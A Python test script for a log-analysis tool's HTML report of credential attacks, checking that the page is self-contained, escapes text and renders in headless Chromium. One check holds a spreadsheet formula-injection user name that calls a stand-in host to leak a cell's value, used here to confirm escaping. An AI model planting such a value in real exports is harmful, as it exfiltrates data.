#!/usr/bin/python3
"""badcreds summary --html: one self-contained page (no script, no external resource, a policy forbidding both),
every text from the logs escaped (a user name shaped like a formula or markup stays text), the coverage table first,
the chart and the tables present, a cleared log shown in the coverage and as the first finding; and it renders in headless Chromium (Debian's chromium) to a screenshot.

usage: html_report.py BADCREDS FIXTURE_DIR OUT_PNG
"""
import html.parser
import os
import shutil
import subprocess
import sys
import tempfile

BADCREDS, FIX, PNG = os.path.abspath(sys.argv[1]), sys.argv[2], sys.argv[3]
FAILURES = []


def check(name, cond):
    print(f'{"ok" if cond else "FAIL"} {name}')
    if not cond:
        FAILURES.append(name)


class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.external, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for k, v in attrs:
            if k in ('src', 'href') or (v and ('http://' in v or 'https://' in v) and k != 'content'):
                self.external.append((tag, k, v))

    def handle_data(self, data):
        self.text.append(data)


def main():
    with tempfile.TemporaryDirectory() as tmp:
        page = os.path.join(tmp, 'summary.html')
        files = [os.path.join(FIX, f) for f in ('ADFS01.evtx', 'ADFS02.evtx', 'ADFS-OLD.evtx', 'DC01.evtx')]
        p = subprocess.run([BADCREDS, 'summary', '-q', '--html', page] + files, stdout=subprocess.DEVNULL, check=False)
        check('summary --html exits 0 and writes the page', p.returncode == 0 and os.path.exists(page))
        doc = open(page, encoding='utf-8').read()
        parsed = Page()
        parsed.feed(doc)
        text = ''.join(parsed.text)
        check('no script and no external resource', 'script' not in parsed.tags and not parsed.external)
        check('a content security policy forbids both', "default-src 'none'" in doc)
        check('the hostile user name is text, escaped', '=HYPERLINK("http://x.example/?"&A1)@contoso.com' in text and
              'HYPERLINK(&quot;' in doc)
        check('coverage, chart, findings and both tables', parsed.tags.count('svg') == 1 and
              parsed.tags.count('rect') >= 3 and parsed.tags.count('table') == 3 and 'password_spray' in text and
              'stale_credential' in text)
        check('the coverage table first: a row per server and log, AD FS audit level', doc.index('<h2>Coverage') <
              doc.index('<h2>Attempts') and doc.count('<tr><td>') >= 4 and
              '<tr><td>ADFS-OLD.fabrikam.fr</td><td>Security</td>' in doc and '<td>verbose</td>' in doc)
        cleared = os.path.join(tmp, 'cleared.html')
        p = subprocess.run([BADCREDS, 'summary', '-q', '--html', cleared, files[0], os.path.join(FIX, 'COV-FS-CLEARED.evtx')],
                           stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, check=False)
        page2 = open(cleared, encoding='utf-8').read() if os.path.exists(cleared) else ''
        check('a cleared log: in the coverage table and the first finding; the page written, exit 1',
              p.returncode == 1 and b'cleared' in p.stderr and
              'Security by CONTOSO\\mallory</b>' in page2 and
              page2.index('<b>log_cleared</b> FS-CLEARED.contoso.com') < page2.index('<b>brute_force</b>'))
        chromium = shutil.which('chromium')
        if not chromium:
            print('SKIP: chromium is not installed (apt-get install chromium); the page was not rendered')
            return 1 if FAILURES else 77
        profile = os.path.join(tmp, 'profile')
        r = subprocess.run([chromium, '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
                            '--disable-background-networking', '--disable-component-update', '--disable-sync',
                            f'--user-data-dir={profile}', '--window-size=1100,1400', f'--screenshot={PNG}',
                            'file://' + page], stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120, check=False)
        size = os.path.getsize(PNG) if os.path.exists(PNG) else 0
        check(f'headless Chromium renders it ({size} bytes of PNG in {PNG})', r.returncode == 0 and size > 20000)
    print(f'{len(FAILURES)} failures')
    return 1 if FAILURES else 0


if __name__ == '__main__':
    sys.exit(main())
